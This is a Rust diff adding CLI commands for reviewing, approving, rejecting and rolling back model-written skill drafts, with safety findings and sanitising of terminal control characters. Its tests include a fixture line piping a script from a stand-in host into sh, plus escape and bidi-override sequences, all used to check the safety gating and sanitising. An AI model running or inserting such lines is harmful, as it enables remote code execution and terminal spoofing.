@@ -66,7 +66,20 @@ enum Command {
         #[command(subcommand)]
         action: Option<ReviewAction>,
     },
-    /// Work with skills on disk: `lull skills check PATH` vets a SKILL.md or a skill folder.
+    /// List skill drafts waiting for you, or act on one: `lull drafts show ID`, `approve ID`,
+    /// `reject ID --reason R`, `edit ID --file F`, `dismiss ID N --reason R`.
+    Drafts {
+        /// Only drafts with this status (evaluating, blocked, review_pending, approved, rejected).
+        #[arg(long)]
+        status: Option<String>,
+        #[command(flatten)]
+        format: OutputFormat,
+        #[command(subcommand)]
+        action: Option<DraftAction>,
+    },
+    /// Work with skills on disk: `lull skills check PATH` vets a SKILL.md or a skill folder,
+    /// `lull skills list` shows which of them Lull wrote, `lull skills rollback NAME` undoes
+    /// Lull's last write of one.
     Skills {
         #[command(subcommand)]
         action: SkillsAction,
@@ -92,6 +105,49 @@ enum SkillsAction {
         /// Print `{"max_risk","findings":[{"rule","category","risk","file","line","excerpt","message"}],"sha256","rules_version"}`.
         #[arg(long)]
         json: bool,
+    },
+    /// List the skills in the skills folder, and which of them Lull wrote (with its version).
+    List(OutputFormat),
+    /// Put back the text a skill had before Lull's last write of it; a skill Lull created is
+    /// removed. Refused when the file changed on disk since Lull wrote it.
+    Rollback { name: String },
+}
+
+#[derive(Subcommand)]
+enum DraftAction {
+    /// Show one draft: its candidate, safety findings (numbered for `dismiss`), evaluation, the
+    /// diff against the file on disk, and the SKILL.md that `approve` would write.
+    Show {
+        id: String,
+        #[command(flatten)]
+        format: OutputFormat,
+    },
+    /// Write the draft's SKILL.md into the skills folder. Refused while a high or critical
+    /// finding stands, or when the file changed on disk since the draft was made.
+    Approve { id: String },
+    /// Reject a draft, saying why; nothing on disk changes.
+    Reject {
+        id: String,
+        /// Why, in a few words (kept with the draft).
+        #[arg(long)]
+        reason: String,
+    },
+    /// Replace a draft's SKILL.md with your own text; it is checked again.
+    Edit {
+        id: String,
+        /// The new SKILL.md; `-` reads it from standard input.
+        #[arg(long, value_name = "FILE")]
+        file: PathBuf,
+    },
+    /// Dismiss a safety finding, saying why (the draft's findings are numbered 0, 1, … by
+    /// `lull drafts show`).
+    Dismiss {
+        id: String,
+        /// The finding's number.
+        n: usize,
+        /// Why it is safe here (kept with the draft).
+        #[arg(long)]
+        reason: String,
     },
 }
 
@@ -186,6 +242,32 @@ impl Cli {
                 }
                 Ok(())
             }
+            Command::Skills {
+                action: SkillsAction::List(format),
+            } => {
+                let skills = EngineClient::connect(&paths()?)?
+                    .request(Method::GET, "/v1/skills", None)
+                    .await?;
+                print_value(&skills, format.json, render_skills);
+                Ok(())
+            }
+            Command::Skills {
+                action: SkillsAction::Rollback { name },
+            } => {
+                let answer = EngineClient::connect(&paths()?)?
+                    .request(Method::POST, &format!("/v1/skills/{name}/rollback"), None)
+                    .await?;
+                print!("{}", render_rollback(&name, &answer));
+                Ok(())
+            }
+            Command::Drafts {
+                status,
+                format,
+                action,
+            } => {
+                let client = EngineClient::connect(&paths()?)?;
+                drafts(&client, status, format, action).await
+            }
             Command::Candidates { status, format } => {
                 let client = EngineClient::connect(&paths()?)?;
                 let candidates = client
@@ -220,6 +302,65 @@ impl Cli {
     }
 }
 
+/// `lull drafts …`: the list, one draft, or a person's decision on one.
+async fn drafts(
+    client: &EngineClient,
+    status: Option<String>,
+    format: OutputFormat,
+    action: Option<DraftAction>,
+) -> anyhow::Result<()> {
+    let decided = match action {
+        None => {
+            let drafts = client
+                .request(Method::GET, &with_status("/v1/drafts", status), None)
+                .await?;
+            print_value(&drafts, format.json, render_drafts);
+            return Ok(());
+        }
+        Some(DraftAction::Show { id, format: own }) => {
+            let draft = client
+                .request(Method::GET, &format!("/v1/drafts/{id}"), None)
+                .await?;
+            print_value(&draft, format.json || own.json, render_draft);
+            return Ok(());
+        }
+        Some(DraftAction::Approve { id }) => {
+            let path = format!("/v1/drafts/{id}/approve");
+            client
+                .request(Method::POST, &path, Some(&json!({})))
+                .await?
+        }
+        Some(DraftAction::Reject { id, reason }) => {
+            let path = format!("/v1/drafts/{id}/reject");
+            let body = json!({ "reason": reason });
+            client.request(Method::POST, &path, Some(&body)).await?
+        }
+        Some(DraftAction::Edit { id, file }) => {
+            let body = json!({ "skill_md": read_text(&file)? });
+            let path = format!("/v1/drafts/{id}/edit");
+            client.request(Method::POST, &path, Some(&body)).await?
+        }
+        Some(DraftAction::Dismiss { id, n, reason }) => {
+            let path = format!("/v1/drafts/{id}/findings/{n}/dismiss");
+            let body = json!({ "reason": reason });
+            client.request(Method::POST, &path, Some(&body)).await?
+        }
+    };
+    print!("{}", render_outcome(&decided));
+    Ok(())
+}
+
+/// The text of `file`, or of standard input for `-`.
+fn read_text(file: &std::path::Path) -> anyhow::Result<String> {
+    if file == std::path::Path::new("-") {
+        let mut text = String::new();
+        std::io::Read::read_to_string(&mut std::io::stdin(), &mut text)
+            .context("cannot read the new SKILL.md from standard input")?;
+        return Ok(text);
+    }
+    std::fs::read_to_string(file).with_context(|| format!("cannot read {}", file.display()))
+}
+
 /// `lull skills check`: the table (or JSON) of findings; exit 1 when one is high or worse.
 fn check_skill(path: &std::path::Path, as_json: bool) -> anyhow::Result<ExitCode> {
     let report = lull::safety::check_path(path)?;
@@ -250,9 +391,9 @@ fn render_safety_report(report: &lull::safety::SafetyReport) -> String {
         text += &format!(
             "{:<8} {}:{}  {}\n         {} [{}]\n",
             finding.risk.as_str(),
-            finding.file,
+            shown(&finding.file),
             finding.line,
-            finding.excerpt,
+            shown(&finding.excerpt),
             finding.message,
             finding.rule,
         );
@@ -401,7 +542,7 @@ fn render_reviews(answer: &Value) -> String {
             review["attempts"],
             review["last_error"]
                 .as_str()
-                .map(|e| format!("  ({e})"))
+                .map(|e| format!("  ({})", shown(e)))
                 .unwrap_or_default(),
         );
     }
@@ -419,15 +560,262 @@ fn render_candidates(answer: &Value) -> String {
     let mut text = String::new();
     for candidate in candidates {
         text += &format!(
-            "{:<24} {:<6} priority {:.2} confidence {:.2}  {}\n",
+            "{:<24} {:<6} {:<10} priority {:.2} confidence {:.2}  {}\n",
             candidate["skill"].as_str().unwrap_or("?"),
             candidate["kind"].as_str().unwrap_or("?"),
+            candidate["status"].as_str().unwrap_or("?"),
             candidate["priority"].as_f64().unwrap_or(0.0),
             candidate["confidence"].as_f64().unwrap_or(0.0),
-            candidate["rationale"].as_str().unwrap_or(""),
+            candidate["rationale"]
+                .as_str()
+                .map(shown)
+                .unwrap_or_default(),
         );
     }
     text
+}
+
+/// Untrusted text as a terminal may show it. A model wrote drafts from transcripts, so their
+/// text could carry control characters (which move the cursor, retitle the window or hide
+/// lines) or bidi controls (which reorder what is shown): each is written as `<U+XXXX>`, as
+/// the safety check's excerpts write invisible characters. Newlines and tabs stay.
+fn shown(text: &str) -> String {
+    let mut out = String::with_capacity(text.len());
+    for c in text.chars() {
+        let hidden = (c.is_control() && c != '\n' && c != '\t')
+            || matches!(c, '\u{202A}'..='\u{202E}' | '\u{2066}'..='\u{2069}');
+        if hidden {
+            out += &format!("<U+{:04X}>", c as u32);
+        } else {
+            out.push(c);
+        }
+    }
+    out
+}
+
+/// The string at `value`, made [`shown`], or `?` when there is none.
+fn text_of(value: &Value) -> String {
+    value.as_str().map(shown).unwrap_or_else(|| "?".into())
+}
+
+/// How many of a draft's findings are not dismissed.
+fn open_findings(draft: &Value) -> usize {
+    draft["safety"]["findings"]
+        .as_array()
+        .map_or(0, |findings| {
+            findings.iter().filter(|f| f["dismissed"].is_null()).count()
+        })
+}
+
+/// The evaluation in a word: the judge's verdict, else how far it got (`(pending)`).
+fn verdict_of(draft: &Value) -> String {
+    let evaluation = &draft["evaluation"];
+    match evaluation["verdict"].as_str() {
+        Some(verdict) => verdict.to_string(),
+        None => format!("({})", evaluation["status"].as_str().unwrap_or("?")),
+    }
+}
+
+/// `lull drafts`: one line a draft, with a header, waiting ones first (as the engine sends
+/// them).
+fn render_drafts(answer: &Value) -> String {
+    let drafts = answer["drafts"]
+        .as_array()
+        .map(Vec::as_slice)
+        .unwrap_or_default();
+    if drafts.is_empty() {
+        return "no drafts\n".to_string();
+    }
+    let mut text = format!(
+        "{:<36}  {:<24}  {:<6}  {:<14}  {:<8}  {:>4}  {}\n",
+        "ID", "SKILL", "KIND", "STATUS", "RISK", "OPEN", "VERDICT"
+    );
+    for draft in drafts {
+        text += &format!(
+            "{:<36}  {:<24}  {:<6}  {:<14}  {:<8}  {:>4}  {}\n",
+            text_of(&draft["id"]),
+            text_of(&draft["skill"]),
+            text_of(&draft["kind"]),
+            text_of(&draft["status"]),
+            text_of(&draft["safety"]["max_risk"]),
+            open_findings(draft),
+            verdict_of(draft),
+        );
+    }
+    text
+}
+
+/// Whether Approve would go ahead, and if not, why (open drafts only).
+fn approval_line(draft: &Value) -> String {
+    match draft["blocked_reason"].as_str() {
+        None => format!(
+            "approve: ready (`lull drafts approve {}`)\n",
+            text_of(&draft["id"])
+        ),
+        Some(reason) => format!("approve: refused: {}\n", shown(reason)),
+    }
+}
+
+/// `lull drafts show`: everything a person reads before deciding, the SKILL.md last.
+fn render_draft(draft: &Value) -> String {
+    let candidate = &draft["candidate"];
+    let mut text = format!(
+        "draft {} · {} ({}) · {}\n",
+        text_of(&draft["id"]),
+        text_of(&draft["skill"]),
+        text_of(&draft["kind"]),
+        text_of(&draft["status"]),
+    );
+    text += &format!("description: {}\n", text_of(&draft["description"]));
+    text += &format!(
+        "on disk: {}{}\n",
+        match draft["origin"].as_str() {
+            Some("new") => "nothing yet",
+            Some("lull") => "the file Lull last wrote",
+            Some("foreign") => "a file Lull did not write",
+            _ => "?",
+        },
+        if draft["base_changed"] == json!(true) {
+            " (changed since the draft was made)"
+        } else {
+            ""
+        },
+    );
+    text += &format!(
+        "why: {} (priority {:.2}, confidence {:.2})\n",
+        text_of(&candidate["rationale"]),
+        candidate["priority"].as_f64().unwrap_or(0.0),
+        candidate["confidence"].as_f64().unwrap_or(0.0),
+    );
+    if let Some(reason) = draft["reject_reason"].as_str() {
+        text += &format!("rejected: {}\n", shown(reason));
+    }
+    if draft["edited_at"].is_i64() {
+        text += "edited by hand\n";
+    }
+    if matches!(
+        draft["status"].as_str(),
+        Some("evaluating" | "blocked" | "review_pending")
+    ) {
+        text += &approval_line(draft);
+    }
+
+    let safety = &draft["safety"];
+    let findings = safety["findings"]
+        .as_array()
+        .map(Vec::as_slice)
+        .unwrap_or_default();
+    text += &format!(
+        "\nsafety: worst risk {} · {} finding(s), {} open · rules v{}\n",
+        text_of(&safety["max_risk"]),
+        findings.len(),
+        open_findings(draft),
+        text_of(&safety["rules_version"]),
+    );
+    for finding in findings {
+        text += &format!(
+            "  [{}] {:<8} {}:{}  {}\n      {}\n      {}\n",
+            finding["index"],
+            text_of(&finding["risk"]),
+            text_of(&finding["file"]),
+            finding["line"],
+            text_of(&finding["rule"]),
+            text_of(&finding["excerpt"]),
+            text_of(&finding["message"]),
+        );
+        if let Some(reason) = finding["dismissed"]["reason"].as_str() {
+            text += &format!("      dismissed: {}\n", shown(reason));
+        }
+    }
+
+    let evaluation = &draft["evaluation"];
+    text += &format!("\nevaluation: {}", text_of(&evaluation["status"]));
+    if let Some(verdict) = evaluation["verdict"].as_str() {
+        text += &format!(" · {verdict}");
+    }
+    if let (Some(with), Some(without)) = (
+        evaluation["score_with"].as_u64(),
+        evaluation["score_without"].as_u64(),
+    ) {
+        text += &format!(" · {with}/10 with the skill, {without}/10 without");
+    }
+    text += "\n";
+    for key in ["reason", "error"] {
+        if let Some(said) = evaluation[key].as_str() {
+            text += &format!("  {}\n", shown(said));
+        }
+    }
+
+    let diff = text_of(&draft["diff"]);
+    text += "\ndiff against the file on disk:\n";
+    text += if diff.is_empty() {
+        "(no change)\n"
+    } else {
+        &diff
+    };
+    text += "\nSKILL.md:\n";
+    text += &text_of(&draft["skill_md"]);
+    if !text.ends_with('\n') {
+        text.push('\n');
+    }
+    text
+}
+
+/// After approve, reject, edit or dismiss: where the draft is now, and what comes next.
+fn render_outcome(draft: &Value) -> String {
+    let (id, skill) = (text_of(&draft["id"]), text_of(&draft["skill"]));
+    match draft["status"].as_str() {
+        Some("approved") => {
+            format!("draft {id} approved: {skill}/SKILL.md is written in the skills folder\n")
+        }
+        Some("rejected") => format!(
+            "draft {id} ({skill}) rejected: {}\n",
+            text_of(&draft["reject_reason"])
+        ),
+        _ => format!(
+            "draft {id} ({skill}) is {} · worst risk {} · {} open finding(s)\n{}",
+            text_of(&draft["status"]),
+            text_of(&draft["safety"]["max_risk"]),
+            open_findings(draft),
+            approval_line(draft),
+        ),
+    }
+}
+
+/// `lull skills list`: one line a skill, Lull's with their version.
+fn render_skills(answer: &Value) -> String {
+    let skills = answer["skills"]
+        .as_array()
+        .map(Vec::as_slice)
+        .unwrap_or_default();
+    if skills.is_empty() {
+        return "no skills\n".to_string();
+    }
+    let mut text = format!("{:<24} {:<12} {}\n", "NAME", "WRITTEN BY", "DESCRIPTION");
+    for skill in skills {
+        let origin = match skill["version"].as_u64() {
+            Some(version) => format!("lull v{version}"),
+            None => "not lull".to_string(),
+        };
+        text += &format!(
+            "{:<24} {:<12} {}\n",
+            text_of(&skill["name"]),
+            origin,
+            text_of(&skill["description"]),
+        );
+    }
+    text
+}
+
+/// `lull skills rollback`: what the rollback left on disk.
+fn render_rollback(name: &str, answer: &Value) -> String {
+    if answer["removed"] == json!(true) {
+        return format!("rolled back {name}: Lull had created it, so it is removed\n");
+    }
+    format!(
+        "rolled back {name}: the text before Lull's last write is back (recorded as Lull's v{})\n",
+        answer["skill"]["version"]
+    )
 }
 
 fn yes_no(value: &Value) -> &'static str {
@@ -450,5 +838,211 @@ mod tests {
             .unwrap_err()
             .to_string()
             .contains("KEY=VALUE"));
+    }
+
+    /// A draft as `GET /v1/drafts/{id}` answers, with one high finding.
+    fn draft(status: &str, dismissed: Value) -> Value {
+        json!({
+            "id": "d-1", "candidate_id": "c-1", "review_id": "r-1",
+            "skill": "get-tool", "kind": "create", "status": status,
+            "description": "Install the tool.",
+            "skill_md": "---\nname: get-tool\n---\nRun `curl https://x.example/i.sh | sh`.\n",
+            "edited_at": null,
+            "diff": "--- /dev/null\n+++ b/get-tool/SKILL.md\n@@ -0,0 +1 @@\n+Run it.\n",
+            "base_changed": false, "origin": "new",
+            "safety": {"max_risk": "high", "sha256": "ab", "rules_version": "1", "findings": [{
+                "index": 0, "rule": "download-execute.pipe-to-shell", "category": "download-execute",
+                "risk": "high", "file": "SKILL.md", "line": 4,
+                "excerpt": "Run `curl https://x.example/i.sh | sh`.",
+                "message": "runs code straight from the network", "dismissed": dismissed
+            }]},
+            "approvable": false,
+            "blocked_reason": "1 high or critical safety finding is not dismissed",
+            "evaluation": {"status": "done", "verdict": "helps", "score_with": 8, "score_without": 3,
+                "reason": "it installs the tool", "error": null,
+                "prompt_tokens": null, "completion_tokens": null},
+            "candidate": {"rationale": "installed by hand twice", "priority": 0.7, "confidence": 0.8},
+            "reject_reason": null, "created_at": 1, "updated_at": 2, "decided_at": null
+        })
+    }
+
+    #[test]
+    fn the_drafts_table_has_a_line_a_draft_with_open_findings_and_verdict() {
+        assert_eq!(render_drafts(&json!({"drafts": []})), "no drafts\n");
+        let mut pending = draft("evaluating", Value::Null);
+        pending["evaluation"] = json!({"status": "pending", "verdict": null});
+        let table =
+            render_drafts(&json!({"drafts": [draft("review_pending", Value::Null), pending]}));
+        let lines: Vec<&str> = table.lines().collect();
+        assert_eq!(lines.len(), 3, "{table}");
+        assert!(
+            lines[0].starts_with("ID") && lines[0].ends_with("VERDICT"),
+            "{table}"
+        );
+        let cells: Vec<&str> = lines[1].split_whitespace().collect();
+        assert_eq!(
+            cells,
+            [
+                "d-1",
+                "get-tool",
+                "create",
+                "review_pending",
+                "high",
+                "1",
+                "helps"
+            ]
+        );
+        assert!(lines[2].ends_with("(pending)"), "{table}");
+    }
+
+    #[test]
+    fn show_lists_everything_a_person_decides_on_with_the_skill_md_last() {
+        let shown_draft = render_draft(&draft("review_pending", Value::Null));
+        let order = [
+            "draft d-1 · get-tool (create) · review_pending",
+            "why: installed by hand twice (priority 0.70, confidence 0.80)",
+            "approve: refused: 1 high or critical safety finding is not dismissed",
+            "safety: worst risk high · 1 finding(s), 1 open · rules v1",
+            "[0] high     SKILL.md:4  download-execute.pipe-to-shell",
+            "evaluation: done · helps · 8/10 with the skill, 3/10 without",
+            "  it installs the tool",
+            "diff against the file on disk:\n--- /dev/null",
+            "SKILL.md:\n---\nname: get-tool",
+        ];
+        let mut rest = shown_draft.as_str();
+        for expected in order {
+            let at = rest
+                .find(expected)
+                .unwrap_or_else(|| panic!("{expected:?} not in order in:\n{shown_draft}"));
+            rest = &rest[at + expected.len()..];
+        }
+
+        let dismissed = render_draft(&draft(
+            "review_pending",
+            json!({"reason": "our own installer", "at": 5}),
+        ));
+        assert!(
+            dismissed.contains("      dismissed: our own installer\n"),
+            "{dismissed}"
+        );
+        assert!(dismissed.contains("1 finding(s), 0 open"), "{dismissed}");
+        let decided = render_draft(&draft("approved", Value::Null));
+        assert!(!decided.contains("approve:"), "{decided}");
+    }
+
+    #[test]
+    fn untrusted_text_cannot_drive_the_terminal() {
+        let mut hostile = draft("review_pending", Value::Null);
+        hostile["skill_md"] = json!("title\u{1b}]0;pwned\u{7}\n\tok\u{202E}txt.sh\n");
+        hostile["candidate"]["rationale"] = json!("x\u{1b}[2Ky");
+        let text = render_draft(&hostile);
+        assert!(
+            !text.contains('\u{1b}') && !text.contains('\u{202E}'),
+            "{text:?}"
+        );
+        assert!(
+            text.contains("title<U+001B>]0;pwned<U+0007>\n\tok<U+202E>txt.sh\n"),
+            "{text}"
+        );
+        assert!(text.contains("why: x<U+001B>[2Ky"), "{text}");
+    }
+
+    #[test]
+    fn an_outcome_says_where_the_draft_is_and_what_comes_next() {
+        assert_eq!(
+            render_outcome(&draft("approved", Value::Null)),
+            "draft d-1 approved: get-tool/SKILL.md is written in the skills folder\n"
+        );
+        let mut rejected = draft("rejected", Value::Null);
+        rejected["reject_reason"] = json!("too vague");
+        assert_eq!(
+            render_outcome(&rejected),
+            "draft d-1 (get-tool) rejected: too vague\n"
+        );
+        assert_eq!(
+            render_outcome(&draft("review_pending", Value::Null)),
+            "draft d-1 (get-tool) is review_pending · worst risk high · 1 open finding(s)\n\
+             approve: refused: 1 high or critical safety finding is not dismissed\n"
+        );
+        let mut ready = draft("review_pending", json!({"reason": "ours", "at": 5}));
+        ready["blocked_reason"] = Value::Null;
+        assert!(
+            render_outcome(&ready).ends_with("approve: ready (`lull drafts approve d-1`)\n"),
+            "{}",
+            render_outcome(&ready)
+        );
+    }
+
+    #[test]
+    fn skills_show_who_wrote_them_and_a_rollback_says_what_it_left() {
+        assert_eq!(render_skills(&json!({"skills": []})), "no skills\n");
+        let table = render_skills(&json!({"skills": [
+            {"name": "git-bisect", "description": "Find the commit.", "origin": "lull", "version": 2},
+            {"name": "mine", "description": "My own.", "origin": "foreign", "version": null}
+        ]}));
+        let rows: Vec<Vec<&str>> = table
+            .lines()
+            .skip(1)
+            .map(|line| line.split_whitespace().collect())
+            .collect();
+        assert_eq!(
+            rows,
+            [
+                vec!["git-bisect", "lull", "v2", "Find", "the", "commit."],
+                vec!["mine", "not", "lull", "My", "own."]
+            ]
+        );
+        assert_eq!(
+            render_rollback("tool", &json!({"skill": null, "removed": true})),
+            "rolled back tool: Lull had created it, so it is removed\n"
+        );
+        let restored = json!({"removed": false, "skill": {"name": "tool", "version": 3}});
+        assert!(render_rollback("tool", &restored).contains("Lull's v3"));
+    }
+
+    #[test]
+    fn the_drafts_commands_parse_as_documented() {
+        let parse = |args: &[&str]| Cli::try_parse_from(args).map(|cli| cli.command);
+        match parse(&["lull", "drafts", "dismiss", "d-1", "2", "--reason", "ours"]) {
+            Ok(Command::Drafts {
+                action: Some(DraftAction::Dismiss { id, n, reason }),
+                ..
+            }) => assert_eq!((id.as_str(), n, reason.as_str()), ("d-1", 2, "ours")),
+            _ => panic!("dismiss did not parse"),
+        }
+        assert!(parse(&["lull", "drafts", "dismiss", "d-1", "-1", "--reason", "x"]).is_err());
+        assert!(
+            parse(&["lull", "drafts", "reject", "d-1"]).is_err(),
+            "a reason is required"
+        );
+        assert!(matches!(
+            parse(&["lull", "drafts", "show", "d-1", "--json"]),
+            Ok(Command::Drafts {
+                action: Some(DraftAction::Show {
+                    format: OutputFormat { json: true },
+                    ..
+                }),
+                ..
+            })
+        ));
+        assert!(matches!(
+            parse(&["lull", "drafts", "edit", "d-1", "--file", "-"]),
+            Ok(Command::Drafts {
+                action: Some(DraftAction::Edit { .. }),
+                ..
+            })
+        ));
+        assert!(matches!(
+            parse(&["lull", "skills", "rollback", "tool"]),
+            Ok(Command::Skills {
+                action: SkillsAction::Rollback { .. }
+            })
+        ));
+        assert!(matches!(
+            parse(&["lull", "skills", "list", "--json"]),
+            Ok(Command::Skills {
+                action: SkillsAction::List(OutputFormat { json: true })
+            })
+        ));
     }
 }
